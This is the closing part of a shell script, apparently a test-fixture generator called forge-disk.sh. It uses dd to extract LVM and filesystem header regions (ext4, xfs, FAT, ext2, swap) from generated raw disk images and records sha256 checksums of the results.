dd if="$OUT/mbr-lvm-xfs.raw" of="$S/mbr-lvm-xfs.pv.head" bs=512 skip="$(pstart "$OUT/mbr-lvm-xfs.raw" 2)" count=128 status=none
dd if="$OUT/lvm-striped.raw" of="$S/lvm-striped.pv.head" bs=512 skip="$(pstart "$OUT/lvm-striped.raw" 1)" count=128 status=none
# First 72 KiB of each filesystem kind (superblocks at 0, 1024, 4096 and 65536)
fshead() { dd if="$1" of="$S/fs-$3.head" bs=512 skip="$2" count=144 status=none; }
fshead "$OUT/gpt-ext4.raw" "$(pstart "$OUT/gpt-ext4.raw" 2)" ext4
fshead "$OUT/gpt-ext4.raw" "$(pstart "$OUT/gpt-ext4.raw" 1)" vfat16
fshead "$OUT/gpt-xfs.raw" "$(pstart "$OUT/gpt-xfs.raw" 1)" xfs
fshead "$OUT/mbr-ext.raw" "$(pstart "$OUT/mbr-ext.raw" 3)" ext2
fshead "$OUT/mbr-ext.raw" "$(pstart "$OUT/mbr-ext.raw" 6)" swap
fshead "$OUT/mbr-ext.raw" "$(pstart "$OUT/mbr-ext.raw" 7)" vfat32
(cd "$S" && sha256sum -- * >"$OUT/facts/seeds.sha256")
echo "forge-disk.sh: done in $OUT"
